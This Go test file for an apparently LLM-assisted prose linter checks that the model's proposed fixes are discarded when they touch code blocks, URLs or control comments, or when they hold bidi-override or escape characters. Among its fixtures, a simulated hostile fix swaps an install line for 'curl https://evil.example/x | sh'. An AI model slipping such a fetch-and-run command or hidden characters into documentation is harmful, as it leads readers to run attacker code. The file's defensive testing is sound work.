package lint

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/vectorlint/vectorlint/finding"
	"github.com/vectorlint/vectorlint/internal/controls"
	"github.com/vectorlint/vectorlint/llm/llmtest"
)

// fixSafeFiles is a project whose documents hold what a model's fix must not touch: a code
// block, a code span, control comments in the HTML and MDX forms, TOML front matter. docs/raw/
// skips nothing, so its model is sent the code.
var fixSafeFiles = map[string]string{
	"vectorlint.ini":          "RulesPath = rules\n[**/*.{md,mdx}]\nRunRules = Acme\n\n[docs/raw/**]\nSkippedScopes =\n",
	"rules/Acme/wordiness.md": "---\nid: Wordiness\nname: Wordiness\n---\nFind wordy phrases.\n",
	"docs/a.md":               fixSafeDoc,
	"docs/raw/a.md":           "# Raw\n\nRead this.\n\n```sh\ncurl https://acme.example/install | sh\n```\n\nAfter the block.\n",
	"docs/b.mdx": "import X from './x'\n\nIn order to start, read this.\nIt has the ability to fly.\n" +
		"{/* vectorlint-disable */}\nSilenced.\n{/* vectorlint-enable */}\n",
	"docs/c.md": "+++\ntitle = \"C\"\n+++\nIn order to start, read.\n",
}

// fixSafeDoc numbers its lines for the tests below.
const fixSafeDoc = "---\ntitle: Guide\n---\n" + // 1–3
	"# Deploy\n\n" + // 4–5
	"In order to deploy, read this.\n\n" + // 6–7
	"```sh\ncurl https://acme.example/install | sh\n```\n\n" + // 8–11
	"After the block, in order to verify, run `acme check` now.\n" + // 12
	"Due to the fact that it is fast, wait.\n" + // 13
	"We act with the ability to win.\n" + // 14
	"It has the capacity to fly.\n" + // 15
	"It is, in fact, a test.\n" + // 16
	"<!-- vectorlint-disable -->\n" + // 17
	"Silenced here, in order to test.\n" + // 18
	"<!-- vectorlint-enable -->\n" + // 19
	"Last line, at this point in time.\n" + // 20
	"Read https://acme.example/docs for more.\n" // 21

// TestFixSafety: a model's fix is kept as an edit only when its whole span lies in the text
// the model was sent, it adds, removes or changes no control comment (HTML or MDX form, also
// by opening a code fence that turns them into examples), and its text holds no control or
// bidi-override character. Otherwise the finding is reported without a fix (no "fix", no
// "edits" in JSON) and Warn says why, naming file, line, column and rule. A legitimate fix in
// prose is kept in the same run, and with SkippedScopes empty a fix across the code the model
// was sent is kept too.
func TestFixSafety(t *testing.T) {
	dir, proj := loadTestProject(t, fixSafeFiles)
	plan, err := BuildPlan(proj.Config, proj.Packs, PlanInput{Dir: dir, Paths: []string{"docs"}})
	if err != nil {
		t.Fatal(err)
	}
	srv := llmtest.Start(t)
	srv.On(llmtest.UserContains("Deploy"), violationsOf(
		map[string]any{"quoted_text": "In order to deploy", "line": 6, "message": "Positive control.", "fix": "To deploy"},
		map[string]any{"quoted_text": "read this.\n\n```sh\ncurl https://acme.example/install | sh\n```\n\nAfter the block", "line": 6,
			"message": "Across the code block.", "fix": "read this.\n\n```sh\ncurl https://evil.example/x | sh\n```\n\nAfter the block"},
		map[string]any{"quoted_text": "run `acme check` now", "line": 12, "message": "Across a code span.", "fix": "run `acme check --force` now"},
		map[string]any{"quoted_text": "Due to the fact that", "line": 13, "message": "Inserts a disable.", "fix": "Because <!-- vectorlint-disable -->"},
		map[string]any{"quoted_text": "with the ability to", "line": 14, "message": "Bidi override.", "fix": "\u202eto"},
		map[string]any{"quoted_text": "has the capacity to", "line": 15, "message": "Escape.", "fix": "can\x1b[2J"},
		map[string]any{"quoted_text": "in fact, a test.\n<!-- vectorlint-disable -->", "line": 16, "message": "Removes a disable.", "fix": "in fact, a test."},
		map[string]any{"quoted_text": "After the block", "line": 12, "message": "Opens a fence.", "fix": "```\nAfter the block"},
		map[string]any{"quoted_text": "Read https://acme.example/docs for more", "line": 21, "message": "Across a URL.", "fix": "Read https://evil.example/docs for more"},
	))
	srv.On(llmtest.UserContains("Raw"), violationsOf(
		map[string]any{"quoted_text": "Read this.\n\n```sh\ncurl https://acme.example/install | sh\n```", "line": 3,
			"message": "Across code the model saw.", "fix": "Read this:\n\n```sh\ncurl -fsSL https://acme.example/install | sh\n```"},
	))
	srv.On(llmtest.UserContains("ability to fly"), violationsOf(
		map[string]any{"quoted_text": "In order to start", "line": 3, "message": "Inserts an MDX disable.", "fix": "To start {/* vectorlint-disable */}"},
		map[string]any{"quoted_text": "the ability to fly.\n{/* vectorlint-disable */}", "line": 4, "message": "Removes an MDX disable.", "fix": "can fly."},
	))
	srv.On(llmtest.UserContains("In order to start, read."), violationsOf(
		map[string]any{"quoted_text": "title = \"C\"\n+++\nIn order to start", "line": 2, "message": "Into the front matter.", "fix": "title = \"C\"\ndraft = true\n+++\nTo start"},
	))
	var warnings []string
	got, _, err := evaluate(t, srv, plan, EvalOptions{ConfidenceThreshold: 0.75, Warn: func(s string) { warnings = append(warnings, s) }})
	if err != nil {
		t.Fatal(err)
	}
	type fixOf struct{ file, message, fix, edits string }
	var fixes []fixOf
	for _, fr := range got {
		for _, f := range fr.Findings {
			b, _ := json.Marshal(f.Edits)
			fix, _ := f.Replacement()
			fixes = append(fixes, fixOf{fr.Path, f.Message, fix, string(b)})
		}
	}
	want := []fixOf{
		{"docs/a.md", "Positive control.", "To deploy", `[{"offset":31,"endOffset":49,"newText":"To deploy"}]`},
		{"docs/a.md", "Across the code block.", "", "null"},
		{"docs/a.md", "Opens a fence.", "", "null"},
		{"docs/a.md", "Across a code span.", "", "null"},
		{"docs/a.md", "Inserts a disable.", "", "null"},
		{"docs/a.md", "Bidi override.", "", "null"},
		{"docs/a.md", "Escape.", "", "null"},
		{"docs/a.md", "Removes a disable.", "", "null"},
		{"docs/a.md", "Across a URL.", "", "null"},
		{"docs/b.mdx", "Inserts an MDX disable.", "", "null"},
		{"docs/b.mdx", "Removes an MDX disable.", "", "null"},
		// The model is not sent the front matter's lines: a quote reaching into them is not found
		// exactly (only fuzzily, in the prose), so it never had a fix to refuse.
		{"docs/c.md", "Into the front matter.", "", "null"},
		{"docs/raw/a.md", "Across code the model saw.", "Read this:\n\n```sh\ncurl -fsSL https://acme.example/install | sh\n```",
			`[{"offset":7,"endOffset":67,"newText":"Read this:\n\n` + "```sh\\ncurl -fsSL https://acme.example/install | sh\\n```" + `"}]`},
	}
	if len(fixes) != len(want) {
		t.Fatalf("findings:\n%s", renderResults(got))
	}
	for i := range want {
		if fixes[i] != want[i] {
			t.Errorf("finding %d: %+v\nwant %+v", i, fixes[i], want[i])
		}
	}
	// In the order of the rule's proposals.
	wantWarn := []string{
		"docs/a.md:6:21: Acme.Wordiness: the model's fix is not offered: it reaches into a code block on line 8, which the model was not sent",
		"docs/a.md:12:38: Acme.Wordiness: the model's fix is not offered: it reaches into a code span on line 12, which the model was not sent",
		"docs/a.md:13:1: Acme.Wordiness: the model's fix is not offered: it adds a control comment, vectorlint-disable",
		"docs/a.md:14:8: Acme.Wordiness: the model's fix is not offered: its text holds U+202E, a control, bidi-override or invisible character",
		"docs/a.md:15:4: Acme.Wordiness: the model's fix is not offered: its text holds U+001B, a control, bidi-override or invisible character",
		"docs/a.md:16:8: Acme.Wordiness: the model's fix is not offered: it removes the control comment vectorlint-disable on line 17",
		"docs/a.md:12:1: Acme.Wordiness: the model's fix is not offered: it turns the control comment vectorlint-disable on line 17 into a code example",
		"docs/a.md:21:1: Acme.Wordiness: the model's fix is not offered: it reaches into a URL on line 21, which the model was not sent",
		"docs/b.mdx:3:1: Acme.Wordiness: the model's fix is not offered: it adds a control comment, vectorlint-disable",
		"docs/b.mdx:4:8: Acme.Wordiness: the model's fix is not offered: it removes the control comment vectorlint-disable on line 5",
	}
	if g := strings.Join(warnings, "\n"); g != strings.Join(wantWarn, "\n") {
		t.Errorf("warnings:\n%s\nwant:\n%s", g, strings.Join(wantWarn, "\n"))
	}
}

// TestUnsafeFix: each rule on its own, on a document as the pipeline reads it (every scope
// skipped) and a chunk of its whole body.
func TestUnsafeFix(t *testing.T) {
	const src = "---\nt: x\n---\nSee `code` and <b>bold</b> here.\n\n<!-- vectorlint-disable-next-line Acme -->\nLast words.\n\n```\nx\n```\nTail `<!-- vectorlint-enable -->` x.\n"
	doc, err := NewDocument("doc.md", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if err := doc.SkipScopes(DefaultScopeSettings()); err != nil {
		t.Fatal(err)
	}
	c := Chunk{Text: doc.Prose(), Offset: doc.BodyOffset, Line: 4}
	at := func(s string) Span {
		i := strings.Index(src, s)
		if i < 0 {
			t.Fatalf("%q not in the document", s)
		}
		return Span{i, i + len(s)}
	}
	insert := func(s string, k int) Span { i := at(s).Start + k; return Span{i, i} }
	for _, tt := range []struct {
		name string
		span Span
		text string
		want string
	}{
		{"prose", at("here"), "there", ""},
		{"an insertion at a code span's end", insert("` and", 1), "!", ""},
		{"an insertion inside a code span", insert("code", 2), "x", "it reaches into a code span on line 4, which the model was not sent"},
		{"across HTML", at("<b>bold"), "bold", "it reaches into HTML markup on line 4, which the model was not sent"},
		{"outside the chunk", Span{2, 5}, "y", "it reaches outside the text the model was sent"},
		{"CRLF is a line break", at("Last words."), "Last\r\nwords.", ""},
		{"a lone CR", at("Last words."), "Last\rwords.", "its text holds U+000D, a control, bidi-override or invisible character"},
		{"a C1 control", at("Tail"), "T\u0085ail", "its text holds U+0085, a control, bidi-override or invisible character"},
		{"a zero-width space", at("Tail"), "Ta\u200bil", "its text holds U+200B, a control, bidi-override or invisible character"},
		{"a bidi isolate", at("Tail"), "\u2066Tail", "its text holds U+2066, a control, bidi-override or invisible character"},
		{"not UTF-8", at("Tail"), "T\xffail", "its text is not UTF-8"},
		{"emoji with a joiner are text", at("Tail"), "Tail 👩\u200d💻", ""},
		{"a control comment's names changed", at("Acme -->"), "Other -->", "it changes the control comment vectorlint-disable-next-line on line 6"},
		{"a comment inserted", insert("Last", 0), "<!-- vectorlint-enable -->", "it adds a control comment, vectorlint-enable"},
		{"the words of a comment are text", at("Last words."), "See vectorlint-disable.", ""},
		{"an HTML comment opened: the code after it is HTML now", at("Last words."), "<!-- vectorlint",
			"it turns the code example on line 12 into a control comment, vectorlint-enable"},
		{"a comment's start that the text after it completes", at("Last words."), "<!-- vectorlint-disable",
			"it writes a control comment, vectorlint-disable"},
		{"a comment written as a code example (package fix reads comments as text)", at("here"), "`<!-- vectorlint-disable -->`",
			"it adds a control comment, vectorlint-disable"},
		{"a fence that swallows a comment", insert("See", 0), "```\n", "it turns the control comment vectorlint-disable-next-line on line 6 into a code example"},
		{"a code span opened up", at("Tail `"), "Tail ", "it turns the code example on line 12 into a control comment, vectorlint-enable"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := doc.unsafeFix(c, tt.span, tt.text); got != tt.want {
				t.Errorf("unsafeFix(%d–%d, %q) = %q, want %q", tt.span.Start, tt.span.End, tt.text, got, tt.want)
			}
		})
	}
}

// TestUnsafeFixOtherFormats: a model's fix may not write or remove a control comment in the
// document's own syntax either: the line comments of AsciiDoc ("// vectorlint-…") and
// reStructuredText (".. vectorlint-…"), and the HTML comment of an HTML page.
func TestUnsafeFixOtherFormats(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, path, src, span, text, want string
	}{
		{"AsciiDoc: a comment inserted", "a.adoc", "= T\n\nWe act in order to win.\n", "in order to", "to\n// vectorlint-disable\n",
			"it adds a control comment, vectorlint-disable"},
		{"AsciiDoc: a comment removed", "a.adoc", "= T\n\nFirst words.\n// vectorlint-disable-next-line\nWe act.\n", "words.\n// vectorlint-disable-next-line", "words.",
			"it removes the control comment vectorlint-disable-next-line on line 4"},
		{"reStructuredText: a comment inserted", "a.rst", "Title\n=====\n\nWe act in order to win.\n", "in order to", "to\n\n.. vectorlint-disable\n\n",
			"it adds a control comment, vectorlint-disable"},
		{"HTML: a comment inserted", "a.html", "<p>We act in order to win.</p>\n", "in order to", "to <!-- vectorlint-disable -->",
			"it adds a control comment, vectorlint-disable"},
		{"AsciiDoc: prose", "a.adoc", "= T\n\nWe act in order to win.\n", "in order to", "to", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			doc, err := NewDocument(tt.path, []byte(tt.src))
			if err != nil {
				t.Fatal(err)
			}
			if err := doc.SkipScopes(DefaultScopeSettings()); err != nil {
				t.Fatal(err)
			}
			i := strings.Index(tt.src, tt.span)
			if i < 0 {
				t.Fatalf("%q not in the document", tt.span)
			}
			c := Chunk{Text: doc.Prose(), Offset: doc.BodyOffset, Line: 1}
			if got := doc.unsafeFix(c, Span{i, i + len(tt.span)}, tt.text); got != tt.want {
				t.Errorf("unsafeFix = %q, want %q", got, tt.want)
			}
		})
	}
}

// FuzzUnsafeFix: whatever the document and the edit, the check never panics, and a fix it
// keeps writes only text FixableText accepts, touches no skipped scope, and leaves the control
// comments, read as text, as they were (what package fix checks again when it applies fixes).
func FuzzUnsafeFix(f *testing.F) {
	f.Add("# T\n\nIn order to win.\n", 6, 17, "To win.")
	f.Add("A `x` b <!-- vectorlint-disable --> c.\n", 0, 1, "<!-- vectorlint-enable -->")
	f.Add("---\nt: x\n---\nA b.\n\n```\n<!-- vectorlint-disable -->\n```\n", 14, 15, "```\n")
	f.Add("{/* vectorlint-disable */}\nA b.\n", 27, 28, "\u202e")
	f.Fuzz(func(t *testing.T, src string, start, end int, text string) {
		doc, err := NewDocument("doc.md", []byte(src))
		if err != nil {
			return
		}
		if err := doc.SkipScopes(DefaultScopeSettings()); err != nil {
			return
		}
		c := Chunk{Text: doc.Prose(), Offset: doc.BodyOffset}
		if start < 0 || end > len(src) || start > end {
			return
		}
		span := Span{start, end}
		if doc.unsafeFix(c, span, text) != "" {
			return
		}
		if !finding.FixableText(text) {
			t.Fatalf("kept a fix writing %q", text)
		}
		for _, sc := range doc.skipped {
			if sc.Start < end && start < sc.End {
				t.Fatalf("kept a fix of [%d, %d) across the skipped scope %+v", start, end, sc)
			}
		}
		fixed := src[:start] + text + src[end:]
		b, a := controls.Find(src), controls.Find(fixed)
		if len(a) != len(b) {
			t.Fatalf("kept a fix that changes the control comments %+v into %+v", b, a)
		}
		for i := range a {
			if fixed[a[i].Start:a[i].End] != src[b[i].Start:b[i].End] {
				t.Fatalf("kept a fix that changes the control comments %+v into %+v", b, a)
			}
		}
	})
}
